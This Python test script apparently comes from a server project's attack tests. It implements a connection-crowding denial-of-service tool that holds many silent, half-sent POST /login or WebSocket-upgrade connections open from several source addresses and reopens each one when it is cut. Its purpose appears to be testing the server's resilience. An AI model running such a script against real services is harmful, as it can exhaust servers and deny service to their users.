"""An attacker's program: holds as many connections as it is told, and opens each anew when cut.

``python -m tests.attacks.crowding HOST PORT KIND COUNT ADDRESS...`` says ``begun`` once each was
tried, and goes on until it is ended.
"""

import asyncio
import resource
import ssl
import sys
from collections.abc import Mapping
from contextlib import suppress
from itertools import cycle

from server.client.pinning import curious
from server.protocol.frames import DEVICE_PATH

PAUSE_SECONDS = 2.0
FILES = 4096

_SOCKET = (
    f"GET {DEVICE_PATH} HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
SAID: Mapping[str, bytes] = {
    "silent": b"",
    "begun": b"POST /login HTTP/1.1\r\nHost: h\r\nContent-Length: 9000\r\n",
    "socket": _SOCKET.encode(),
}
"""What is said of each kind; the silent ones do not even speak TLS."""


async def hold(host: str, port: int, kind: str, address: str, begun: asyncio.Semaphore) -> None:
    """Hold one connection for ever."""
    while True:
        with suppress(OSError, TimeoutError):
            reader, writer = await knock(host, port, kind, address)
            try:
                begun.release()
                await reader.read()
            finally:
                writer.transport.abort()
        begun.release()
        await asyncio.sleep(PAUSE_SECONDS)


async def knock(
    host: str, port: int, kind: str, address: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Open a connection and say what is said of its kind."""
    context: ssl.SSLContext | None = None if kind == "silent" else curious()
    async with asyncio.timeout(10):
        reader, writer = await asyncio.open_connection(
            host, port, ssl=context, local_addr=(address, 0)
        )
    writer.write(SAID[kind])
    return reader, writer


async def crowd(host: str, port: int, kind: str, count: int, addresses: list[str]) -> None:
    """Hold so many connections from all ``addresses``."""
    begun = asyncio.Semaphore(0)
    own = cycle(addresses)
    holding = [asyncio.create_task(hold(host, port, kind, next(own), begun)) for _ in range(count)]
    for _ in range(count):
        await begun.acquire()
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    await asyncio.gather(*holding)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(FILES, hard), hard))
    asyncio.run(crowd(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5:]))
